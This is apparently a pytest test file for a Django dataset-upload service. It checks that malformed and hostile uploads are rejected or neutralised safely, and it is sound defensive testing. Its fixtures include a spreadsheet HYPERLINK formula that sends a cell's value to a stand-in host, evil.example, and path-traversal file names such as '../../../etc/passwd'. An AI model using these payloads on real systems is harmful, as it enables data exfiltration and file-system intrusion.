"""Hostile input gets a clear error on the dataset and nothing else: validation never
raises, and nothing half-parsed is ever marked ready."""

import csv
import io

import pytest
from django.core.files import File
from django.core.files.storage import default_storage
from django.urls import reverse

from ecolink.datasets.models import Dataset
from ecolink.datasets.readers import decoded_limit
from ecolink.datasets.sanitise import neutralise_cell, safe_filename
from ecolink.datasets.services import dataset_upload, dataset_validate
from tests.datasets.builders import (
    csv_bytes,
    errors_of,
    jsonl,
    parquet_bytes,
    rows_of,
    upload,
    validated,
)
from tests.factories import PASSWORD, member_of

F = Dataset.Format
S = Dataset.Status


def assert_rejected_cleanly(dataset: Dataset) -> None:
    assert dataset.status == S.INVALID
    assert dataset.error
    assert not (dataset.train_file or dataset.validation_file or dataset.test_file)


def test_non_utf8_bytes_are_an_error_on_their_line(org):
    content = jsonl(rows_of(F.TEXT)).splitlines(True)
    content[2] = b'{"text": "caf\xe9 au lait"}\n'  # Latin-1, not UTF-8
    dataset = validated(org, b"".join(content))
    assert_rejected_cleanly(dataset)
    assert errors_of(dataset) == [(3, "encoding")]
    assert "not valid UTF-8: byte 0xe9" in dataset.error


def test_non_utf8_bytes_in_a_csv_row(org):
    content = csv_bytes(rows_of(F.PROMPT_COMPLETION), ["prompt", "completion"]).splitlines(True)
    content[4] = b"caf\xe9,cr\xe8me\r\n"
    dataset = validated(org, b"".join(content), "qa.csv")
    assert_rejected_cleanly(dataset)
    assert errors_of(dataset) == [(5, "encoding")]


def test_a_50_mb_single_line_is_skipped_as_too_long_without_being_kept(org, tmp_path):
    path = tmp_path / "huge.jsonl"
    with open(path, "wb") as f:
        f.write(jsonl(rows_of(F.TEXT, 110)))
        f.write(b'{"text": "')
        chunk = b"a" * (1024 * 1024)
        for _ in range(50):
            f.write(chunk)
        f.write(b'"}\n')
        f.write(jsonl(rows_of(F.TEXT, 5, start=500)))
    with open(path, "rb") as f:
        dataset = dataset_upload(organization_id=org.pk, file=File(f), filename="huge.jsonl")
    dataset_validate(dataset_id=dataset.pk)
    dataset.refresh_from_db()

    assert_rejected_cleanly(dataset)
    assert errors_of(dataset) == [(111, "too_long")]
    assert "longer than 8.0 MB" in dataset.error
    assert len(dataset.report["errors"][0]["excerpt"]) < 200
    # The lines after it were still read.
    assert dataset.report["files"][0]["rows"] == 116


@pytest.mark.parametrize(
    "line",
    [
        '{"messages": ' + "[" * 100_000 + "]" * 100_000 + "}",
        '{"text": ' + '{"a": ' * 200_000 + "1" + "}" * 200_000 + "}",
    ],
    ids=["arrays", "objects"],
)
def test_deeply_nested_json_is_an_error_not_a_crash(org, line):
    content = jsonl(rows_of(F.TEXT)).splitlines(True)
    content[4] = line.encode() + b"\n"
    dataset = validated(org, b"".join(content))
    assert_rejected_cleanly(dataset)
    assert errors_of(dataset) == [(5, "too_deep")]


def test_nesting_that_parses_is_still_rejected_by_shape(org):
    content = jsonl(rows_of(F.TEXT)).splitlines(True)
    content[4] = ('{"text": ' + "[" * 500 + "]" * 500 + "}\n").encode()
    dataset = validated(org, b"".join(content))
    assert errors_of(dataset) == [(5, "type")]


def test_mixed_formats_in_one_file_name_the_odd_lines(org):
    rows = rows_of(F.OPENAI)
    rows[59] = rows_of(F.ALPACA, 1)[0]
    rows[60] = rows_of(F.TEXT, 1)[0]
    dataset = validated(org, jsonl(rows))
    assert_rejected_cleanly(dataset)
    assert errors_of(dataset) == [(60, "mixed_formats"), (61, "mixed_formats")]
    assert "this record is Alpaca but the file is OpenAI chat" in dataset.error


def test_a_truncated_parquet_file_is_rejected(org):
    content = parquet_bytes(rows_of(F.PROMPT_COMPLETION))
    dataset = validated(org, content[: len(content) // 2], "qa.parquet")
    assert_rejected_cleanly(dataset)
    assert errors_of(dataset) == [(None, "parquet")]
    assert "truncated or corrupt" in dataset.error


def test_a_parquet_file_that_is_not_parquet_at_all(org):
    dataset = validated(org, b"PAR1" + b"\x00garbage" * 100, "x.parquet")
    assert_rejected_cleanly(dataset)


def huge_answers(n=120, size=200_000):
    return [{"prompt": f"Q{i}?", "completion": "x" * size} for i in range(n)]


def test_a_parquet_bomb_is_stopped_while_decoding(org, settings):
    # Dictionary-encoded, the file is tiny and its metadata says little; decoding says more.
    settings.DATASET_MAX_DECODED_BYTES = 8 * 1024 * 1024
    content = parquet_bytes(huge_answers(), compression="zstd", use_dictionary=True)
    assert len(content) < 100_000  # 24 MB of text
    dataset = validated(org, content, "bomb.parquet")
    assert_rejected_cleanly(dataset)
    [(number, kind)] = errors_of(dataset)
    assert kind == "decoded_size"
    assert number is not None and number < 120
    assert "more than the 8.0 MB allowed" in dataset.error


def test_a_parquet_bomb_is_refused_from_its_metadata_before_decoding(org, settings):
    settings.DATASET_MAX_DECODED_BYTES = 8 * 1024 * 1024
    content = parquet_bytes(huge_answers(), compression="zstd", use_dictionary=False)
    dataset = validated(org, content, "bomb.parquet")
    assert_rejected_cleanly(dataset)
    assert errors_of(dataset) == [(None, "decoded_size")]


def test_the_decoded_size_cap_is_a_ratio_of_the_file_size_above_a_floor():
    mb = 1024 * 1024
    assert decoded_limit(10 * mb, max_bytes=2048 * mb, max_ratio=100) == 1000 * mb
    assert decoded_limit(100 * mb, max_bytes=2048 * mb, max_ratio=100) == 2048 * mb
    assert decoded_limit(1000, max_bytes=2048 * mb, max_ratio=100) == 64 * mb


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


def test_csv_formula_cells_are_kept_for_training_but_neutralised_where_shown(org, client):
    rows = rows_of(F.PROMPT_COMPLETION)
    rows[0] = {"prompt": "@SUM(A1:A9)", "completion": FORMULA}
    dataset = validated(org, csv_bytes(rows, ["prompt", "completion"]), "qa.csv")
    assert dataset.status == S.READY, dataset.error
    warning = next(w for w in dataset.report["warnings"] if w["kind"] == "formula_cells")
    assert warning["numbers"] == [2]

    user = member_of(org)
    client.login(username=user.username, password=PASSWORD)
    page = client.get(reverse("datasets:detail", args=[dataset.pk])).content.decode()
    assert "&#x27;=HYPERLINK(" in page
    assert "&#x27;@SUM(A1:A9)" in page

    exported = client.get(reverse("datasets:preview_csv", args=[dataset.pk]))
    cells = [row[2] for row in csv.reader(io.StringIO(exported.content.decode()))]
    assert "'" + FORMULA in cells
    assert "'@SUM(A1:A9)" in cells
    assert not any(cell.startswith(("=", "@", "+")) for cell in cells)


@pytest.mark.parametrize("cell", ["=1+2", "+1", "-1+2", "@x", "\tx", "\r=x"])
def test_neutralise_cell_prefixes_formula_starts(cell):
    assert neutralise_cell(cell) == "'" + cell
    assert neutralise_cell("plain") == "plain"


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../../etc/passwd", "passwd"),
        ("..\\..\\windows\\system32\\evil.jsonl", "evil.jsonl"),
        ("/abs/path/data.jsonl", "data.jsonl"),
        ("..", "dataset"),
        ("", "dataset"),
        ("nul\x00byte.jsonl", "nul_byte.jsonl"),
        ("spaces and ünïcode.csv", "spaces and unicode.csv"),
        ("x" * 300 + ".jsonl", "x" * 94 + ".jsonl"),
    ],
)
def test_safe_filename_keeps_only_a_harmless_last_component(name, expected):
    assert safe_filename(name) == expected


def test_a_path_traversal_file_name_stays_inside_the_datasets_own_folder(org, artifacts):
    dataset = upload(org, jsonl(rows_of(F.TEXT)), "../../../../tmp/evil.jsonl")
    assert dataset.original_filename == "evil.jsonl"
    assert dataset.file.startswith(f"datasets/{org.pk}/{dataset.pk}/source/")
    stored = (artifacts / dataset.file).resolve()
    assert stored.is_relative_to(artifacts.resolve())
    assert default_storage.exists(dataset.file)


def test_a_path_traversal_file_name_through_the_upload_page(org, client, artifacts):
    user = member_of(org)
    client.login(username=user.username, password=PASSWORD)
    boundary = "XxBOUNDARYxX"
    body = (
        (
            f"--{boundary}\r\n"
            'Content-Disposition: form-data; name="file"; '
            'filename="..%2F..%2F..\\..\\evil.jsonl"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n"
        ).encode()
        + jsonl(rows_of(F.TEXT))
        + f"\r\n--{boundary}--\r\n".encode()
    )
    response = client.post(
        reverse("datasets:upload"),
        data=body,
        content_type=f"multipart/form-data; boundary={boundary}",
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    dataset = Dataset.objects.get()
    assert "/" not in dataset.original_filename and ".." not in dataset.original_filename
    assert (artifacts / dataset.file).resolve().is_relative_to(artifacts.resolve())


@pytest.mark.parametrize(
    ("content", "filename", "message"),
    [
        (b"", "empty.jsonl", "The file is empty."),
        (b"", "empty.csv", "The file is empty."),
        (b"", "empty.parquet", "The file is empty."),
        (b"\n\n  \n", "blank.jsonl", "The file has no records."),
    ],
)
def test_an_empty_file_is_invalid_and_says_so(org, content, filename, message):
    dataset = validated(org, content, filename)
    assert_rejected_cleanly(dataset)
    assert dataset.error == message


def test_an_unexpected_failure_marks_the_dataset_invalid_instead_of_crashing(
    org, settings, tmp_path
):
    broken_model = tmp_path / "broken-model"
    broken_model.mkdir()
    (broken_model / "tokenizer.json").write_text("{not a tokenizer")
    settings.TINY_MODEL_DIR = broken_model
    dataset = validated(org, jsonl(rows_of(F.TEXT)))
    assert_rejected_cleanly(dataset)
    assert "internal error" in dataset.error
    assert dataset.report["errors"][0]["kind"] == "internal"


def test_a_lone_surrogate_is_an_encoding_error(org):
    lines = jsonl(rows_of(F.TEXT)).splitlines(True)
    lines[1] = b'{"text": "bad \\ud800 half"}\n'
    dataset = validated(org, b"".join(lines))
    assert_rejected_cleanly(dataset)
    assert errors_of(dataset) == [(2, "encoding")]


def test_nul_characters_reach_the_report_safely(org):
    # PostgreSQL refuses NUL inside JSON: the preview, excerpts and keys must not carry it.
    lines = jsonl(rows_of(F.TEXT)).splitlines(True)
    lines[0] = b'{"text": "nul \\u0000 inside"}\n'
    lines[1] = b'{"\\u0000key": 1}\n'
    dataset = validated(org, b"".join(lines))
    assert errors_of(dataset) == [(2, "missing_field")]  # and it was saved

    ready = validated(org, lines[0] + b"".join(jsonl(rows_of(F.TEXT)).splitlines(True)[1:]))
    assert ready.status == S.READY
    assert ready.report["preview"][0]["record"]["text"] == "nul \ufffd inside"
